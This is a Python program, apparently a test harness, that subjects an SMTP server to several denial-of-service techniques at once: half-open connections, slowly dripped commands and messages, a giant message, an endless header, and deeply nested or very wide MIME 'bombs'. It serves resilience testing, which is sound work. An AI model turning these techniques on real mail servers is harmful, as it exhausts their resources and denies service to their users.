"""
Besiegers: what hostile peers can do to an SMTP server, all of it at once, as a program of its own.

`besiegers.py HOST PORT PLAN` says on standard output, a JSON object a line, when all are in place,
and when the giant message and one of each kind that unfolds have got their answers. It goes on
until its standard input ends; the last line says what was done.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import resource
import socket
import sys
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import cycle
from typing import Any, Final

MIB: Final = 1 << 20
BEFORE_DATA: Final = b"EHLO siege\r\nMAIL FROM:<a@b.test>\r\nRCPT TO:<c@d.test>\r\nDATA\r\n"
END: Final = b".\r\nQUIT\r\n"
PIECE: Final = (b"x" * 1022 + b"\r\n") * 1024
"""A MiB of lines."""
DRIP: Final = 0.25
"""Seconds between two bytes of those who are slow, and between two messages that unfold."""


@dataclass(frozen=True)
class Plan:
    """How many there are of each kind; `giant` is in MiB."""

    half_open: int
    slow_commands: int
    slow_messages: int
    giant: int


@dataclass
class Deeds:
    """What was done; `dropped` were connections of the slow ones, sizes are in bytes."""

    half_open: int = 0
    dripped: int = 0
    dropped: int = 0
    giant: int = 0
    giant_answer: str = ""
    endless_header: int = 0
    bombs: Counter[str] = field(default_factory=Counter)


class Siege:
    """All besiegers of one server."""

    def __init__(self, host: str, port: int, plan: Plan) -> None:
        self.deeds = Deeds()
        self._address = (host, port)
        self._plan = plan
        self._first_round = asyncio.Event()
        """Set when each kind of message that unfolds has been answered."""

    async def run(self) -> None:
        """Besiege until standard input ends."""
        plan = self._plan
        silent = [(await self._connect())[1] for _ in range(plan.half_open)]
        self.deeds.half_open = len(silent)
        endless = [
            asyncio.create_task(work)
            for work in (
                *(self._drip(b"") for _ in range(plan.slow_commands)),
                *(self._drip(BEFORE_DATA) for _ in range(plan.slow_messages)),
                self._send_endless_header(),
                self._send_bombs(),
            )
        ]
        giant = asyncio.create_task(asyncio.to_thread(self._send_giant))
        _tell(ready=True)
        await asyncio.gather(giant, self._first_round.wait())
        _tell(giant=self.deeds.giant)
        await asyncio.to_thread(sys.stdin.read)
        for task in endless:
            task.cancel()
        await asyncio.gather(*endless, return_exceptions=True)
        for writer in silent:
            writer.transport.abort()

    async def _connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        return await asyncio.open_connection(*self._address)

    async def _drip(self, before: bytes) -> None:
        """Say something, then a byte now and then and never a line; come again when dropped."""
        while True:
            with contextlib.suppress(OSError):
                _, writer = await self._connect()
                with _ended(writer):
                    writer.write(before)
                    while not writer.is_closing():
                        writer.write(b"x")
                        await writer.drain()
                        self.deeds.dripped += 1
                        await asyncio.sleep(DRIP)
            self.deeds.dropped += 1

    def _send_giant(self) -> None:
        """Send a message of which none is ever held."""
        with socket.create_connection(self._address) as connection:
            connection.sendall(BEFORE_DATA)
            for piece in self._giant():
                connection.sendall(piece)
                self.deeds.giant += len(piece)
            connection.sendall(END)
            with connection.makefile("rb") as replies:
                self.deeds.giant_answer = replies.read().splitlines()[-2].decode()

    def _giant(self) -> Iterator[bytes]:
        for _ in range(self._plan.giant):
            yield PIECE

    async def _send_endless_header(self) -> None:
        """Send one field of a header, for ever."""
        _, writer = await self._connect()
        with _ended(writer):
            writer.write(BEFORE_DATA + b"X-Endless: ")
            while True:
                writer.write(b"x" * MIB)
                await writer.drain()
                self.deeds.endless_header += MIB

    async def _send_bombs(self) -> None:
        """Send messages that unfold when somebody reads them, one after the other."""
        kinds = [deep_tree(), wide_tree(), nested_messages()]
        for bomb in cycle(kinds):
            reader, writer = await self._connect()
            with _ended(writer):
                writer.write(BEFORE_DATA + bomb + END)
                answer = (await reader.read(-1)).splitlines()[-2]
                self.deeds.bombs[answer[:3].decode()] += 1
            if self.deeds.bombs.total() == len(kinds):
                self._first_round.set()
            await asyncio.sleep(DRIP)


def deep_tree(depth: int = 5_000) -> bytes:
    """Give a message whose parts are inside of each other."""
    heads = [
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (level, level)
        for level in range(depth)
    ]
    return b"Subject: deep\r\n" + b"".join(heads) + b"\r\nbottom\r\n"


def wide_tree(width: int = 100_000) -> bytes:
    """Give a message of very many parts."""
    head = b'Subject: wide\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
    return head + b"--b\r\n\r\n\r\n" * width + b"--b--\r\n"


def nested_messages(depth: int = 20_000) -> bytes:
    """Give a message with a message in it, and so on."""
    return b"Subject: nested\r\nContent-Type: message/rfc822\r\n\r\n" * depth + b"bottom\r\n"


@contextlib.contextmanager
def _ended(writer: asyncio.StreamWriter) -> Iterator[None]:
    """End a connection at once, whatever happens."""
    try:
        yield
    finally:
        writer.transport.abort()


def _tell(**what: Any) -> None:
    """Say something to whoever started this."""
    sys.stdout.write(json.dumps(what) + "\n")
    sys.stdout.flush()


def main(host: str, port: str, plan: str) -> None:
    """Besiege; see above."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    siege = Siege(host, int(port), Plan(**json.loads(plan)))
    asyncio.run(siege.run())
    _tell(**vars(siege.deeds))


if __name__ == "__main__":
    main(*sys.argv[1:])
